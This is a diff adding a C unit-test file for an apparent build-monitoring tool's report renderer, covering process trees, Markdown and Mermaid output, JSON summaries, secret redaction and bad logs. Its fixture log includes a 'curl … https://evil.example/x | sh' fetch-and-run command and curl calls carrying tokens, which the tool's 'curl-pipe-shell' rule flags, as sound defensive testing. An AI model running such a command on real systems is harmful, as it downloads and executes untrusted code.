@@ -1,0 +1,572 @@
+// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
+/*
+ * Reports rendered from saved event logs (docs/REPORTS.md): the text tree
+ * (marks, colour, folding), the Markdown (verdict table, Mermaid lineage
+ * and its escaping, network destinations, counts), the JSON summary, bad
+ * logs, and a log of 50,000 processes in bounded memory with exact counts.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <regex.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <cmocka.h>
+#include <json-c/json.h>
+#include "redact.h"
+#include "report.h"
+#include "report_internal.h"
+
+/* A small run: make -> sh -c "curl … | sh" -> curl (killed by a rule). */
+static const char small_log[] =
+	"{\"seq\":1,\"type\":\"exec\",\"job_id\":1,\"pid\":100,\"tid\":100,\"start_ns\":1000,"
+	"\"ppid\":99,\"parent_start_ns\":1,\"comm\":\"make\",\"filename\":\"/usr/bin/make\","
+	"\"exe\":\"/usr/bin/make\",\"cwd\":\"/src\",\"argc\":2,\"argv\":[\"make\",\"-j2\"],"
+	"\"argv_truncated\":false}\n"
+	"{\"seq\":2,\"type\":\"fork\",\"job_id\":1,\"pid\":101,\"tid\":101,\"start_ns\":1010,"
+	"\"parent_pid\":100,\"parent_tid\":100,\"parent_start_ns\":1000}\n"
+	"{\"seq\":3,\"type\":\"exec\",\"job_id\":1,\"pid\":101,\"tid\":101,\"start_ns\":1010,"
+	"\"comm\":\"sh\",\"filename\":\"/bin/sh\",\"exe\":\"/usr/bin/dash\",\"argc\":3,"
+	"\"argv\":[\"sh\",\"-c\",\"curl -H 'Authorization: Bearer abc123' https://evil.example/x | sh\"]}\n"
+	"\n"
+	"{\"seq\":4,\"type\":\"fork\",\"job_id\":1,\"pid\":102,\"tid\":102,\"start_ns\":1020,"
+	"\"parent_pid\":101,\"parent_tid\":101,\"parent_start_ns\":1010}\n"
+	"{\"seq\":5,\"type\":\"exec\",\"job_id\":1,\"pid\":102,\"tid\":102,\"start_ns\":1020,"
+	"\"comm\":\"curl\",\"filename\":\"/usr/bin/curl\",\"exe\":\"/usr/bin/curl\",\"argc\":4,"
+	"\"argv\":[\"curl\",\"--token\",\"s3cret\",\"https://u:pw@evil.example/x\"]}\n"
+	"{\"seq\":6,\"type\":\"verdict\",\"job_id\":1,\"rule\":\"curl-pipe-shell\","
+	"\"severity\":\"high\",\"description\":\"d\",\"mode\":\"enforce\","
+	"\"rule_action\":\"kill-process\",\"action\":\"kill-process\",\"blocked\":false,"
+	"\"kernel_missed\":false,\"pid\":102,\"start_ns\":1020,\"filename\":\"/usr/bin/curl\","
+	"\"argv\":[\"curl\",\"--token\",\"s3cret\",\"https://u:pw@evil.example/x\"],\"ancestry\":[]}\n"
+	"{\"seq\":7,\"type\":\"connect\",\"job_id\":1,\"pid\":102,\"start_ns\":1020,"
+	"\"daddr\":\"203.0.113.9\",\"dport\":443,\"dns_name\":\"evil.example\"}\n"
+	"{\"seq\":8,\"type\":\"connect\",\"job_id\":1,\"pid\":102,\"start_ns\":1020,"
+	"\"family\":\"ipv4\",\"address\":\"203.0.113.9\",\"port\":443,\"dns_name\":\"evil.example\"}\n"
+	"{\"seq\":9,\"type\":\"connect\",\"job_id\":1,\"pid\":102,\"start_ns\":1020,"
+	"\"address\":\"198.51.100.7\",\"port\":53,\"proto\":\"udp\",\"dns_name\":null}\n"
+	"{\"seq\":10,\"type\":\"exit\",\"job_id\":1,\"pid\":102,\"tid\":102,\"start_ns\":1020,"
+	"\"comm\":\"curl\",\"exit_code\":null,\"signal\":9,\"core_dumped\":false}\n"
+	"{\"seq\":11,\"type\":\"fork\",\"job_id\":1,\"pid\":103,\"tid\":103,\"start_ns\":1030,"
+	"\"parent_pid\":101,\"parent_tid\":101,\"parent_start_ns\":1010}\n"
+	"{\"seq\":12,\"type\":\"exec\",\"job_id\":1,\"pid\":103,\"tid\":103,\"start_ns\":1030,"
+	"\"comm\":\"odd\",\"filename\":\"/x/odd\",\"exe\":\"/x/odd\",\"argc\":2,"
+	"\"argv\":[\"./odd\",\"a`b|c\\\"d#e<f>[g]{h}\"]}\n"
+	"{\"seq\":13,\"type\":\"verdict\",\"job_id\":1,\"rule\":\"odd|rule`x\","
+	"\"severity\":\"low\",\"mode\":\"enforce\",\"rule_action\":\"alert\",\"action\":\"alert\","
+	"\"blocked\":false,\"pid\":103,\"start_ns\":1030,"
+	"\"argv\":[\"./odd\",\"a`b|c\\\"d#e<f>[g]{h}\"]}\n"
+	"{\"seq\":14,\"type\":\"exit\",\"job_id\":1,\"pid\":103,\"tid\":103,\"start_ns\":1030,"
+	"\"exit_code\":0,\"signal\":null}\n"
+	"{\"seq\":15,\"type\":\"exec_failed\",\"job_id\":1,\"pid\":101,\"tid\":101,\"start_ns\":1010,"
+	"\"error\":-2,\"errno\":\"ENOENT\",\"filename\":\"/nope\"}\n"
+	"{\"seq\":16,\"type\":\"some_future_type\",\"job_id\":1}\n"
+	"{\"seq\":17,\"type\":\"exit\",\"job_id\":1,\"pid\":101,\"tid\":101,\"start_ns\":1010,"
+	"\"exit_code\":0,\"signal\":null}\n"
+	"{\"seq\":18,\"type\":\"lost\",\"job_id\":1,\"count\":3,\"total\":3}\n"
+	"{\"seq\":19,\"type\":\"exit\",\"job_id\":1,\"pid\":100,\"tid\":100,\"start_ns\":1000,"
+	"\"exit_code\":2,\"signal\":null}\n"
+	"{\"seq\":20,\"type\":\"summary\",\"job_id\":1,\"command\":[\"make\",\"-j2\"],"
+	"\"exit_status\":124,\"build_exit_code\":null,\"build_signal\":9,\"processes\":4,"
+	"\"lost\":3,\"duration_ns\":1500000000,\"policy\":\"ci.yml\",\"mode\":\"enforce\","
+	"\"verdicts\":2,\"job_killed\":true}\n";
+
+struct out_files {
+	char dir[64];
+	char events[96];
+	char md[96];
+	char json[96];
+};
+
+static void write_text(const char *path, const char *text)
+{
+	FILE *f = fopen(path, "w");
+
+	assert_non_null(f);
+	assert_int_equal(fputs(text, f) >= 0, 1);
+	assert_int_equal(fclose(f), 0);
+}
+
+static char *read_text(const char *path)
+{
+	char *buf = NULL;
+	size_t cap = 0, len;
+	FILE *f = fopen(path, "r");
+
+	assert_non_null(f);
+	len = getdelim(&buf, &cap, '\0', f);
+	assert_true(len != (size_t)-1);
+	fclose(f);
+	return buf;
+}
+
+static int setup_files(void **state)
+{
+	struct out_files *o = calloc(1, sizeof(*o));
+
+	if (!o)
+		return -1;
+	strcpy(o->dir, "/tmp/bw-report-XXXXXX");
+	if (!mkdtemp(o->dir))
+		return -1;
+	snprintf(o->events, sizeof(o->events), "%s/events.jsonl", o->dir);
+	snprintf(o->md, sizeof(o->md), "%s/report.md", o->dir);
+	snprintf(o->json, sizeof(o->json), "%s/report.json", o->dir);
+	*state = o;
+	return 0;
+}
+
+static int teardown_files(void **state)
+{
+	struct out_files *o = *state;
+
+	unlink(o->events);
+	unlink(o->md);
+	unlink(o->json);
+	rmdir(o->dir);
+	free(o);
+	return 0;
+}
+
+/* Renders events to text (returned) and the md/json files. */
+static char *render(struct out_files *o, bool color, bool append)
+{
+	struct report_opts ro = {
+		.color = color, .markdown_path = o->md, .append = append, .json_path = o->json,
+	};
+	char *text = NULL;
+	size_t len = 0;
+
+	ro.tree_out = open_memstream(&text, &len);
+	assert_non_null(ro.tree_out);
+	assert_int_equal(report_render(o->events, &ro), 0);
+	fclose(ro.tree_out);
+	return text;
+}
+
+static void assert_no_secrets(const char *s)
+{
+	assert_null(strstr(s, "s3cret"));
+	assert_null(strstr(s, "abc123"));
+	assert_null(strstr(s, ":pw@"));
+}
+
+static void test_text_tree(void **state)
+{
+	struct out_files *o = *state;
+	char *text;
+
+	write_text(o->events, small_log);
+	text = render(o, false, false);
+	assert_non_null(strstr(text, "buildwarden: process tree\n100 make -j2  [exit 2]\n"));
+	assert_non_null(strstr(text, "|- ! 102 curl --token *** https://u:***@evil.example/x  "
+				     "[killed by policy: rule 'curl-pipe-shell']  <- rule "
+				     "'curl-pipe-shell'\n"));
+	assert_non_null(strstr(text, "Authorization: Bearer ***' https://evil.example/x | sh"));
+	assert_non_null(strstr(text, "! 103 ./odd"));
+	assert_non_null(strstr(text, "<- rule 'odd|rule`x'"));
+	assert_non_null(strstr(text, "buildwarden: 4 processes, 4 execs, 1 failed execs, "
+				     "0 still running; lost events: 3; job terminated by policy, "
+				     "exit status 124\n"));
+	assert_non_null(strstr(text, "rule 'curl-pipe-shell' (high, kill-process): 1 hit, "
+				     "0 blocked, 1 killed"));
+	assert_non_null(strstr(text, "WARNING: the trace is incomplete: 3 lost"));
+	assert_null(strstr(text, "\033["));
+	assert_no_secrets(text);
+	free(text);
+
+	/* colour: the flagged line red, its ancestors yellow */
+	text = render(o, true, false);
+	assert_non_null(strstr(text, "\033[1;31m! 102 curl"));
+	assert_non_null(strstr(text, "\033[33m100 make -j2\033[0m"));
+	assert_non_null(strstr(text, "\033[31m<- rule 'curl-pipe-shell'\033[0m"));
+	free(text);
+
+	/* run --no-tree: the summary lines only */
+	{
+		struct report_opts ro = { .no_tree = true };
+		size_t len = 0;
+
+		ro.tree_out = open_memstream(&text, &len);
+		assert_int_equal(report_render(o->events, &ro), 0);
+		fclose(ro.tree_out);
+		assert_true(!strncmp(text, "buildwarden: 4 processes,", 25));
+		assert_null(strstr(text, "make -j2"));
+		free(text);
+	}
+}
+
+/* Every Mermaid node line is n<i>["label"] with nothing that ends the label. */
+static void check_mermaid(const char *md, int want_nodes)
+{
+	const char *start = strstr(md, "```mermaid\ngraph TD\n"), *end, *line;
+	regex_t node_re, edge_re, other_re;
+	char buf[512];
+	int nodes = 0;
+	size_t len;
+
+	assert_non_null(start);
+	start += strlen("```mermaid\ngraph TD\n");
+	end = strstr(start, "```\n");
+	assert_non_null(end);
+	assert_int_equal(regcomp(&node_re, "^  n[0-9]+\\[\"[^\"`\\[\\]<>|]*(<br/>! [^\"`\\[\\]<>|]*)?\"\\]$",
+				 REG_EXTENDED | REG_NOSUB), 0);
+	assert_int_equal(regcomp(&edge_re, "^  n[0-9]+ --> n[0-9]+$", REG_EXTENDED | REG_NOSUB), 0);
+	assert_int_equal(regcomp(&other_re, "^  (classDef flagged .*|class n[0-9]+ flagged)$",
+				 REG_EXTENDED | REG_NOSUB), 0);
+	for (line = start; line < end; line += len + 1) {
+		len = strcspn(line, "\n");
+		assert_true(len < sizeof(buf));
+		memcpy(buf, line, len);
+		buf[len] = '\0';
+		if (!regexec(&node_re, buf, 0, NULL, 0)) {
+			nodes++;
+			continue;
+		}
+		if (regexec(&edge_re, buf, 0, NULL, 0) && regexec(&other_re, buf, 0, NULL, 0)) {
+			print_error("bad mermaid line: '%s'\n", buf);
+			fail();
+		}
+	}
+	regfree(&node_re);
+	regfree(&edge_re);
+	regfree(&other_re);
+	assert_int_equal(nodes, want_nodes);
+}
+
+static void test_markdown(void **state)
+{
+	struct out_files *o = *state;
+	char *text, *md;
+
+	write_text(o->events, small_log);
+	text = render(o, false, false);
+	free(text);
+	md = read_text(o->md);
+	assert_no_secrets(md);
+	assert_true(!strncmp(md, "## buildwarden: `make -j2` — job terminated by policy (exit 124)\n",
+			     strlen("## buildwarden: `make -j2` — job terminated by policy (exit 124)\n")));
+	assert_non_null(strstr(md, "**4 processes**, 4 execs, 1 failed execs · **2 verdicts** "
+				   "(0 blocked, 1 killed) · 3 lost events · policy `ci.yml` (enforce) · "
+				   "1.50 s\n"));
+	assert_non_null(strstr(md, "> **Warning:** the trace is incomplete: 3 events lost"));
+	assert_non_null(strstr(md, "| Rule | Severity | Action | Blocked | PID | Command |\n"));
+	assert_non_null(strstr(md, "| `curl-pipe-shell` | high | kill-process | no | 102 | "
+				   "`curl --token *** https://u:***@evil.example/x` |\n"));
+	/* a backtick and a pipe in a cell: longer fence, escaped pipe */
+	assert_non_null(strstr(md, "| ``odd\\|rule`x`` | low | alert | no | 103 | "
+				   "``./odd a`b\\|c\"d#e<f>[g]{h}`` |\n"));
+	assert_non_null(strstr(md, "| `curl-pipe-shell` | high | kill-process | 1 | 0 | 1 |\n"));
+	/* the lineage: make -> sh -> curl and sh -> odd, both flagged */
+	check_mermaid(md, 4);
+	assert_non_null(strstr(md, "  n0[\"100 make -j2\"]\n"));
+	assert_non_null(strstr(md, "  n2[\"102 curl --token *** https://u:***@evil.example/x<br/>! "
+				   "curl-pipe-shell\"]\n"));
+	assert_non_null(strstr(md, "  n3[\"103 ./odd a#96;b#124;c#quot;d#35;e#lt;f#gt;#91;g#93;#123;h#125;"
+				   "<br/>! odd#124;rule#96;x\"]\n"));
+	assert_non_null(strstr(md, "  n0 --> n1\n  n1 --> n2\n  n1 --> n3\n"));
+	assert_non_null(strstr(md, "  class n2 flagged\n  class n3 flagged\n"));
+	/* the agent's field names (address, port) and the older daddr/dport */
+	assert_non_null(strstr(md, "### Network destinations\n\n| Destination | Port | Protocol | "
+				   "Name | Connections | First PID |\n|---|---:|---|---|---:|---:|\n"
+				   "| `203.0.113.9` | 443 |  | `evil.example` | 2 | 102 |\n"
+				   "| `198.51.100.7` | 53 | udp |  | 1 | 102 |\n"));
+	assert_non_null(strstr(md, "| Processes | 4 |\n| Execs | 4 |\n| Failed execs | 1 |\n"
+				   "| Forks | 3 |\n| Exits | 4 |\n| Verdicts | 2 |\n"));
+	assert_non_null(strstr(md, "| Lost events | 3 |\n"));
+	free(md);
+
+	/* append: as for $GITHUB_STEP_SUMMARY, the second report follows the first */
+	text = render(o, false, true);
+	free(text);
+	md = read_text(o->md);
+	assert_non_null(strstr(strstr(md, "## buildwarden: ") + 1, "## buildwarden: "));
+	free(md);
+}
+
+static struct json_object *get(struct json_object *o, const char *path)
+{
+	char key[64];
+	const char *dot;
+	struct json_object *v = o;
+
+	while (*path) {
+		dot = strchr(path, '.');
+		snprintf(key, sizeof(key), "%.*s", dot ? (int)(dot - path) : (int)strlen(path), path);
+		if (!json_object_object_get_ex(v, key, &v)) {
+			print_error("no %s\n", key);
+			fail();
+		}
+		path = dot ? dot + 1 : path + strlen(path);
+	}
+	return v;
+}
+
+static void test_json_summary(void **state)
+{
+	struct out_files *o = *state;
+	struct json_object *j, *v;
+	char *text, *js;
+
+	write_text(o->events, small_log);
+	text = render(o, false, false);
+	free(text);
+	js = read_text(o->json);
+	assert_no_secrets(js);
+	j = json_tokener_parse(js);
+	assert_non_null(j);
+	assert_string_equal(json_object_get_string(get(j, "status")), "job terminated by policy");
+	assert_false(json_object_get_boolean(get(j, "complete")));
+	assert_int_equal(json_object_get_int(get(j, "exit_status")), 124);
+	assert_int_equal(json_object_get_int(get(j, "lost")), 3);
+	assert_int_equal(json_object_get_int(get(j, "counts.processes")), 4);
+	assert_int_equal(json_object_get_int(get(j, "counts.execs")), 4);
+	assert_int_equal(json_object_get_int(get(j, "counts.exec_failed")), 1);
+	assert_int_equal(json_object_get_int(get(j, "counts.verdicts")), 2);
+	assert_int_equal(json_object_get_int(get(j, "counts.killed")), 1);
+	assert_int_equal(json_object_get_int(get(j, "counts.connects")), 3);
+	assert_int_equal(json_object_get_int(get(j, "counts.missing_records")), 0);
+	v = get(j, "rules");
+	assert_int_equal(json_object_array_length(v), 2);
+	assert_string_equal(json_object_get_string(get(json_object_array_get_idx(v, 0), "rule")),
+			    "curl-pipe-shell");
+	assert_int_equal(json_object_get_int(get(json_object_array_get_idx(v, 0), "hits")), 1);
+	v = get(j, "verdicts");
+	assert_int_equal(json_object_array_length(v), 2);
+	assert_string_equal(json_object_get_string(get(json_object_array_get_idx(v, 0), "command")),
+			    "curl --token *** https://u:***@evil.example/x");
+	assert_int_equal(json_object_get_int(get(json_object_array_get_idx(v, 0), "seq")), 6);
+	v = get(j, "network");
+	assert_int_equal(json_object_array_length(v), 2);
+	assert_int_equal(json_object_get_int(get(json_object_array_get_idx(v, 0), "count")), 2);
+	assert_string_equal(json_object_get_string(get(json_object_array_get_idx(v, 0), "dns_name")),
+			    "evil.example");
+	json_object_put(j);
+	free(js);
+}
+
+static void test_no_redact(void **state)
+{
+	struct out_files *o = *state;
+	char *text, *md;
+
+	write_text(o->events, small_log);
+	redact_set_enabled(false);
+	text = render(o, false, false);
+	redact_set_enabled(true);
+	md = read_text(o->md);
+	assert_non_null(strstr(text, "curl --token s3cret https://u:pw@evil.example/x"));
+	assert_non_null(strstr(md, "curl --token s3cret https://u:pw@evil.example/x"));
+	free(text);
+	free(md);
+}
+
+/* No summary record, no verdicts, no network: said so, not left blank. */
+static void test_incomplete_log(void **state)
+{
+	struct out_files *o = *state;
+	struct json_object *j;
+	char *text, *md, *js;
+
+	write_text(o->events,
+		   "{\"seq\":1,\"type\":\"exec\",\"pid\":5,\"start_ns\":50,\"argv\":[\"true\"]}\n"
+		   "{\"seq\":3,\"type\":\"exit\",\"pid\":5,\"start_ns\":50,\"exit_code\":0}\n");
+	text = render(o, false, false);
+	assert_non_null(strstr(text, "5 true  [exit 0]"));
+	assert_non_null(strstr(text, "no summary record: the run did not finish"));
+	assert_non_null(strstr(text, "1 records missing from the log"));
+	md = read_text(o->md);
+	assert_non_null(strstr(md, "— incomplete (the log has no summary record)\n"));
+	assert_non_null(strstr(md, "No policy rule matched."));
+	assert_non_null(strstr(md, "### Network destinations\n\nNone recorded.\n"));
+	assert_null(strstr(md, "mermaid"));
+	js = read_text(o->json);
+	j = json_tokener_parse(js);
+	assert_non_null(j);
+	assert_string_equal(json_object_get_string(get(j, "status")), "incomplete");
+	assert_null(get(j, "exit_status"));
+	assert_int_equal(json_object_get_int(get(j, "counts.missing_records")), 1);
+	json_object_put(j);
+	free(text);
+	free(md);
+	free(js);
+}
+
+static void test_malformed_lines(void **state)
+{
+	static const char *const bad[] = {
+		"{\"type\":\"exec\",\"pid\":1,\"start_ns\":1}\n{\"type\":\"exec\",\n",
+		"{\"type\":\"exec\",\"pid\":1,\"start_ns\":1} {}\n",
+		"[1,2]\n",
+		"{\"seq\":1}\n",
+		"{\"type\":\"exec\",\"pid\":\"x\",\"start_ns\":1}\n",
+		"{\"type\":\"fork\",\"pid\":2,\"start_ns\":2}\n",
+		"not json\n",
+	};
+	struct out_files *o = *state;
+	struct report_opts ro = { 0 };
+	struct report r;
+	const char *why;
+	size_t i;
+	int saved = dup(STDERR_FILENO), null = open("/dev/null", O_WRONLY), err;
+
+	/* The FILE:LINE messages are checked by tests/cli/report.bats. */
+	assert_true(saved >= 0 && null >= 0);
+	dup2(null, STDERR_FILENO);
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+		write_text(o->events, bad[i]);
+		if (report_render(o->events, &ro) != -EINVAL)
+			break;
+	}
+	err = report_render("/nonexistent/events.jsonl", &ro);
+	dup2(saved, STDERR_FILENO);
+	close(saved);
+	close(null);
+	assert_int_equal(i, sizeof(bad) / sizeof(bad[0]));
+	assert_int_equal(err, -ENOENT);
+	/* the reason, for the FILE:LINE message */
+	assert_int_equal(report_init(&r), 0);
+	why = NULL;
+	assert_int_equal(report_feed(&r, "{\"type\":", 8, &why), -EINVAL);
+	assert_string_equal(why, "the record is cut short");
+	assert_int_equal(report_feed(&r, "{\"x\":1}", 7, &why), -EINVAL);
+	assert_string_equal(why, "no \"type\" string");
+	assert_int_equal(report_feed(&r, "  \r\n", 4, &why), 0);
+	report_free(&r);
+}
+
+/*
+ * 50,000 processes: make -> 100 sh -> 499 cc each (plus one flagged curl
+ * deep in the middle, and 3 still running). Counts exact; the table stays
+ * under its cap; the flagged process survives pruning; the tree folds.
+ */
+#define BIG_SH 100
+#define BIG_CC 499
+
+static void write_big_log(const char *path)
+{
+	FILE *f = fopen(path, "w");
+	unsigned long seq = 0, pid = 10, sh, cc, shpid, start;
+
+	assert_non_null(f);
+	fprintf(f, "{\"seq\":%lu,\"type\":\"exec\",\"pid\":1,\"start_ns\":1,\"argv\":[\"make\",\"-j64\"],"
+		"\"exe\":\"/usr/bin/make\"}\n", ++seq);
+	for (sh = 0; sh < BIG_SH; sh++) {
+		shpid = pid++;
+		fprintf(f, "{\"seq\":%lu,\"type\":\"fork\",\"pid\":%lu,\"start_ns\":%lu,"
+			"\"parent_pid\":1,\"parent_start_ns\":1}\n", ++seq, shpid, shpid * 10);
+		fprintf(f, "{\"seq\":%lu,\"type\":\"exec\",\"pid\":%lu,\"start_ns\":%lu,"
+			"\"exe\":\"/usr/bin/dash\",\"argv\":[\"sh\",\"-c\",\"cc -c f%lu.c\"]}\n",
+			++seq, shpid, shpid * 10, sh);
+		for (cc = 0; cc < BIG_CC; cc++) {
+			start = pid * 10;
+			fprintf(f, "{\"seq\":%lu,\"type\":\"fork\",\"pid\":%lu,\"start_ns\":%lu,"
+				"\"parent_pid\":%lu,\"parent_start_ns\":%lu}\n", ++seq, pid, start, shpid,
+				shpid * 10);
+			if (sh == BIG_SH / 2 && cc == BIG_CC / 2) {
+				fprintf(f, "{\"seq\":%lu,\"type\":\"exec\",\"pid\":%lu,\"start_ns\":%lu,"
+					"\"exe\":\"/usr/bin/curl\",\"argv\":[\"curl\",\"-H\","
+					"\"Authorization: Bearer TOPSECRET\",\"https://x\"]}\n",
+					++seq, pid, start);
+				fprintf(f, "{\"seq\":%lu,\"type\":\"verdict\",\"rule\":\"net-tool\","
+					"\"severity\":\"medium\",\"rule_action\":\"alert\",\"action\":"
+					"\"alert\",\"pid\":%lu,\"start_ns\":%lu,\"argv\":[\"curl\"]}\n",
+					++seq, pid, start);
+			} else {
+				fprintf(f, "{\"seq\":%lu,\"type\":\"exec\",\"pid\":%lu,\"start_ns\":%lu,"
+					"\"exe\":\"/usr/bin/cc\",\"argv\":[\"cc\",\"-c\",\"f%lu_%lu.c\"]}\n",
+					++seq, pid, start, sh, cc);
+			}
+			if (sh != 7 || cc >= 3)
+				fprintf(f, "{\"seq\":%lu,\"type\":\"exit\",\"pid\":%lu,\"start_ns\":%lu,"
+					"\"exit_code\":%lu}\n", ++seq, pid, start, cc % 2);
+			pid++;
+		}
+		fprintf(f, "{\"seq\":%lu,\"type\":\"exit\",\"pid\":%lu,\"start_ns\":%lu,"
+			"\"exit_code\":0}\n", ++seq, shpid, shpid * 10);
+	}
+	fprintf(f, "{\"seq\":%lu,\"type\":\"exit\",\"pid\":1,\"start_ns\":1,\"exit_code\":0}\n", ++seq);
+	fprintf(f, "{\"seq\":%lu,\"type\":\"summary\",\"command\":[\"make\",\"-j64\"],"
+		"\"exit_status\":0}\n", ++seq);
+	assert_int_equal(fclose(f), 0);
+}
+
+static void test_fifty_thousand_processes(void **state)
+{
+	const unsigned long procs = 1 + BIG_SH + BIG_SH * BIG_CC;
+	struct out_files *o = *state;
+	struct json_object *j;
+	struct report r;
+	char *line = NULL, *text, *js, *s, want[160];
+	const char *why;
+	size_t cap = 0;
+	ssize_t len;
+	unsigned lines = 0;
+	FILE *f;
+
+	assert_true(procs >= 50000);
+	write_big_log(o->events);
+
+	/* memory: the table never holds much more than its cap */
+	assert_int_equal(report_init(&r), 0);
+	f = fopen(o->events, "r");
+	assert_non_null(f);
+	while ((len = getline(&line, &cap, f)) >= 0) {
+		assert_int_equal(report_feed(&r, line, (size_t)len, &why), 0);
+		assert_true(r.procs.count <= r.procs.max_procs + BIG_SH + 2);
+	}
+	fclose(f);
+	free(line);
+	assert_int_equal(r.processes, procs);
+	assert_int_equal(r.forks, procs - 1);
+	assert_int_equal(r.execs, procs);
+	assert_int_equal(r.exits, procs - 3);
+	assert_int_equal(r.verdicts, 1);
+	assert_true(r.procs.pruned > 0);
+	report_free(&r);
+
+	text = render(o, false, false);
+	for (s = text; *s; s++)
+		lines += *s == '\n';
+	assert_true(lines < 420);
+	assert_non_null(strstr(text, "! "));
+	assert_non_null(strstr(text, "curl -H Authorization: Bearer ***"));
+	assert_null(strstr(text, "TOPSECRET"));
+	assert_non_null(strstr(text, " more processes\n"));
+	snprintf(want, sizeof(want), "buildwarden: %lu processes, %lu execs, 0 failed execs, "
+		 "3 still running; lost events: 0; passed, exit status 0\n", procs, procs);
+	assert_non_null(strstr(text, want));
+	free(text);
+	js = read_text(o->json);
+	j = json_tokener_parse(js);
+	assert_non_null(j);
+	assert_int_equal(json_object_get_int(get(j, "counts.processes")), procs);
+	assert_int_equal(json_object_get_int(get(j, "counts.exits")), procs - 3);
+	assert_true(json_object_get_boolean(get(j, "complete")));
+	json_object_put(j);
+	free(js);
+	s = read_text(o->md);
+	check_mermaid(s, 3);
+	free(s);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test_setup_teardown(test_text_tree, setup_files, teardown_files),
+		cmocka_unit_test_setup_teardown(test_markdown, setup_files, teardown_files),
+		cmocka_unit_test_setup_teardown(test_json_summary, setup_files, teardown_files),
+		cmocka_unit_test_setup_teardown(test_no_redact, setup_files, teardown_files),
+		cmocka_unit_test_setup_teardown(test_incomplete_log, setup_files, teardown_files),
+		cmocka_unit_test_setup_teardown(test_malformed_lines, setup_files, teardown_files),
+		cmocka_unit_test_setup_teardown(test_fifty_thousand_processes, setup_files,
+						teardown_files),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
